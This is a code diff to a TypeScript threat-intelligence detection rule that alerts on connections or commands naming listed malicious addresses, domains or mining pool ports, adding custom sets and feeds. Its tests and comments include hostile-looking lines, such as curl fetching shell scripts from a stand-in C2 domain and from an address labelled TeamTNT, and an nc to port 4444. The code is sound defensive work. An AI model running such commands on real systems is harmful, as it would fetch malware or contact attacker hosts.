@@ -1,17 +1,26 @@
+import { type ThreatIntelHit, ThreatIntelListOrigin } from '../../../intel/threatIntelMatch';
 import { type NodeEvent } from '../../../node/nodeEvent';
 import { falcoAlertEvent, processConnectEvent, processExecEvent, tcpConnectEvent } from '../../../node/exampleNodeEvents';
 import { type DetectionContext } from '../../detectionContext';
 import { type AlertEntity, EntityType } from '../../entities';
 import { commandLineOf, nodeDedupKey, nodeEventEntities } from '../../nodeEntities';
-import { connectionOf, isNonPublicAddress, listedAddress, listedDomainIn, listedPort } from '../../predicates/nodeNetwork';
+import { connectionOf, hostNamesIn, isNonPublicAddress, listedAddress, listedDomainIn, listedPort } from '../../predicates/nodeNetwork';
 import { commandLineText, isExec, isInContainer, isSystemWorkload } from '../../predicates/nodeProcesses';
 import { defineNodeRule, Intent, Severity } from '../../rule';
 
 type IndicatorKind = 'threat-intel address' | 'threat-intel domain' | 'mining pool port';
 
+/** The bundled lists' names in alerts (a custom set or a feed is named by its own name, and the kind says which). */
+const BUNDLED_ADDRESS_LIST = 'threatIntelAddresses';
+const BUNDLED_DOMAIN_LIST = 'threatIntelDomains';
+const BUNDLED_PORT_LIST = 'miningPoolPorts';
+
 interface ThreatIndicator {
   kind: IndicatorKind;
-  /** The list entry that matched. */
+  /** The custom set's name, the feed's, or the bundled list's. */
+  list: string;
+  listKind: 'custom' | 'feed' | 'bundled';
+  /** The list entry that matched (as written in the list: an address, a range, a host name or `*.<domain>`). */
   entry: string;
   /** What the event showed: the address and port, or the host name in the command line. */
   seen: string;
@@ -22,10 +31,19 @@ interface ThreatIndicator {
 /** IPv4 addresses in a command line (`curl http://198.51.100.7/x.sh`, `nc 198.51.100.7 4444`). */
 const IPV4_IN_TEXT = /\b(\d{1,3}(?:\.\d{1,3}){3})\b/g;
 
+/** A hit of the subscription's custom sets or of the configured feeds, as an indicator. */
+function customIndicatorOf(hit: ThreatIntelHit | undefined, kind: IndicatorKind, seen: string, address?: string): ThreatIndicator | undefined {
+  if (hit === undefined) return undefined;
+  const listKind = hit.origin === ThreatIntelListOrigin.feed ? 'feed' : 'custom';
+  return { kind, list: hit.list, listKind, entry: hit.entry, seen, ...(address === undefined ? {} : { address }) };
+}
+
 /**
  * A connection to a listed threat address (any process), or from a container to a public address on a mining
- * pool port; the commands that name a listed address or threat domain (connect events carry no names). A command
- * naming a mining pool is crypto-mining-process's (one alert per miner, not two). Platform pods are not judged.
+ * pool port; the commands that name a listed address or threat domain (connect events carry no names). The
+ * subscription's custom sets are consulted first, then the configured `ip` and `domain` feeds (both through
+ * `context.customThreatIntel`), then the bundled lists. A command naming a mining pool of the bundled list is
+ * crypto-mining-process's (one alert per miner, not two). Platform pods are not judged.
  */
 function threatIndicatorOf(event: NodeEvent, context: DetectionContext): ThreatIndicator | undefined {
   if (isSystemWorkload(event, context)) return undefined;
@@ -33,23 +51,36 @@ function threatIndicatorOf(event: NodeEvent, context: DetectionContext): ThreatI
   if (connection !== undefined) {
     const destination = `${connection.daddr}${connection.dport === undefined ? '' : `:${connection.dport}`}`;
     const where = { seen: destination, address: connection.daddr, ...(connection.dport === undefined ? {} : { port: connection.dport }) };
+    const custom = customIndicatorOf(context.customThreatIntel.matchAddress(connection.daddr), 'threat-intel address', destination);
+    if (custom !== undefined) return { ...custom, ...where };
     const address = listedAddress(connection.daddr, context.lists.threatIntelAddresses);
-    if (address !== undefined) return { kind: 'threat-intel address', entry: address, ...where };
+    if (address !== undefined) return { kind: 'threat-intel address', list: BUNDLED_ADDRESS_LIST, listKind: 'bundled', entry: address, ...where };
     if (isInContainer(event) && !isNonPublicAddress(connection.daddr)) {
       const port = listedPort(connection, context.lists.miningPoolPorts);
-      if (port !== undefined) return { kind: 'mining pool port', entry: port, ...where };
+      if (port !== undefined) return { kind: 'mining pool port', list: BUNDLED_PORT_LIST, listKind: 'bundled', entry: port, ...where };
     }
     return undefined;
   }
   if (!isExec(event)) return undefined;
   const text = commandLineText(event.process);
-  for (const match of text.matchAll(IPV4_IN_TEXT)) {
-    const seen = match[1] ?? '';
+  const addresses = [...text.matchAll(IPV4_IN_TEXT)].map((match) => match[1] ?? '');
+  // Most subscriptions have no sets and no feeds: the command line is then not searched for host names twice.
+  if (context.customThreatIntel.listNames.length > 0) {
+    for (const seen of addresses) {
+      const custom = customIndicatorOf(context.customThreatIntel.matchAddress(seen), 'threat-intel address', seen, seen);
+      if (custom !== undefined) return custom;
+    }
+    for (const host of hostNamesIn(text)) {
+      const custom = customIndicatorOf(context.customThreatIntel.matchDomain(host), 'threat-intel domain', host);
+      if (custom !== undefined) return custom;
+    }
+  }
+  for (const seen of addresses) {
     const entry = listedAddress(seen, context.lists.threatIntelAddresses);
-    if (entry !== undefined) return { kind: 'threat-intel address', entry, seen, address: seen };
+    if (entry !== undefined) return { kind: 'threat-intel address', list: BUNDLED_ADDRESS_LIST, listKind: 'bundled', entry, seen, address: seen };
   }
   const threat = listedDomainIn(text, context.lists.threatIntelDomains);
-  return threat === undefined ? undefined : { kind: 'threat-intel domain', entry: threat.entry, seen: threat.host };
+  return threat === undefined ? undefined : { kind: 'threat-intel domain', list: BUNDLED_DOMAIN_LIST, listKind: 'bundled', entry: threat.entry, seen: threat.host };
 }
 
 const python = { binary: '/usr/local/bin/python3.12', arguments: '-m gunicorn app:app' };
@@ -59,13 +90,15 @@ export const threatIntelConnection = defineNodeRule({
   alertType: 'K8S.NODE_ThreatIntelConnection',
   displayName: 'Connection to a known malicious address or mining pool',
   description:
-    'A process connected to an address on the bundled threat-intelligence lists (command-and-control servers, malware ' +
-    'hosts, scanners), or a command line named such an address or a threat-intelligence domain (connection events ' +
-    'carry addresses only, so domains are seen in the commands that use them; a miner naming its pool is the mining ' +
-    'rule\'s). At lower ' +
-    'severity: a container connecting to a public address on a port mining pools listen on (stratum), when the ' +
-    'port is not also an ordinary web or mail port. The lists are data (shared/intel), refreshed with Argus and ' +
-    'replaceable through configuration.',
+    'A process connected to an address on a threat-intelligence list, or a command line named such an address or a ' +
+    'listed domain (connection events carry addresses only, so domains are seen in the commands that use them). The ' +
+    "lists, in the order consulted: the subscription's custom threat-intel sets (PUT " +
+    '/api/subscriptions/{id}/threatIntelSets/{name}: addresses, ranges, host names and `*.<domain>`), the configured ' +
+    '`ip` and `domain` feeds (THREAT_INTEL_FEEDS), then the bundled lists (command-and-control servers, malware ' +
+    'hosts, scanners); the alert names the list and the entry that matched. A miner naming a bundled pool is the ' +
+    "mining rule's. At lower severity: a container connecting to a public address on a port mining pools listen on " +
+    '(stratum), when the port is not also an ordinary web or mail port. The bundled lists are data (shared/intel), ' +
+    'refreshed with Argus and replaceable through configuration.',
   // High for a listed address or domain; Medium for a mining pool port alone (severityFor).
   severity: Severity.High,
   severityFor: (event, context) => (threatIndicatorOf(event, context)?.kind === 'mining pool port' ? Severity.Medium : Severity.High),
@@ -75,10 +108,12 @@ export const threatIntelConnection = defineNodeRule({
     'Block the address or domain at the egress (Azure Firewall, network policy) and find every workload that contacted it.',
     'Isolate the pod or node and find what made the connection (the process, its parent, how it got there); remove the workload and rebuild it from a clean image.',
     'Restrict egress from pods to the destinations they need (a default-deny egress network policy).',
+    'If the entry was listed by mistake, remove it from the custom set (the change takes effect within the settings cache period) or the feed; for the bundled lists, add a suppression rule naming the address.',
   ],
   falsePositives: [
     'Shared hosting or CDN addresses that appear on threat lists for a short time.',
     'Services that legitimately listen on a port used by mining pools (a public API on port 3333 or 5555).',
+    "A custom set entry that is too broad (a range or `*.<domain>` that also covers a partner's or a vendor's service).",
   ],
   references: [
     'https://attack.mitre.org/techniques/T1071/',
@@ -99,6 +134,7 @@ export const threatIntelConnection = defineNodeRule({
     elastic: [],
   },
   eventTypes: ['process_kprobe', 'process_connect', 'process_exec'],
+  readsCustomThreatIntel: true,
   match: (event, context) => threatIndicatorOf(event, context) !== undefined,
   entities: (event, context) => {
     const indicator = threatIndicatorOf(event, context);
@@ -110,7 +146,9 @@ export const threatIntelConnection = defineNodeRule({
   details: (event, context) => {
     const indicator = threatIndicatorOf(event, context);
     return {
-      ...(indicator === undefined ? {} : { indicator: indicator.kind, listEntry: indicator.entry, seen: indicator.seen }),
+      ...(indicator === undefined
+        ? {}
+        : { indicator: indicator.kind, threatIntelList: indicator.list, threatIntelListKind: indicator.listKind, listEntry: indicator.entry, seen: indicator.seen }),
       commandLine: commandLineOf(event.process),
       ...(event.falco === undefined ? {} : { falcoRule: event.falco.rule }),
     };
@@ -133,6 +171,17 @@ export const threatIntelConnection = defineNodeRule({
       name: 'curl fetches a script from a listed malware domain',
       expect: 'alert',
       event: processExecEvent({ binary: '/usr/bin/curl', arguments: '-fsSL http://dl.c2-staging.example.net/k.sh', parent: { binary: '/bin/sh' } }),
+      lists: { threatIntelDomains: ['*.c2-staging.example.net'] },
+    },
+    {
+      name: 'a shell fetches a script from a TeamTNT address of the bundled list',
+      expect: 'alert',
+      event: processExecEvent({ binary: '/usr/bin/curl', arguments: '-s http://45.9.148.35/chimaera/sh/setup.sh', parent: { binary: '/bin/sh' } }),
+    },
+    {
+      name: 'curl fetches from the parent domain of a listed wildcard entry',
+      expect: 'none',
+      event: processExecEvent({ binary: '/usr/bin/curl', arguments: '-fsSL https://www.example.net/install.sh', parent: { binary: '/bin/sh' } }),
       lists: { threatIntelDomains: ['*.c2-staging.example.net'] },
     },
     {
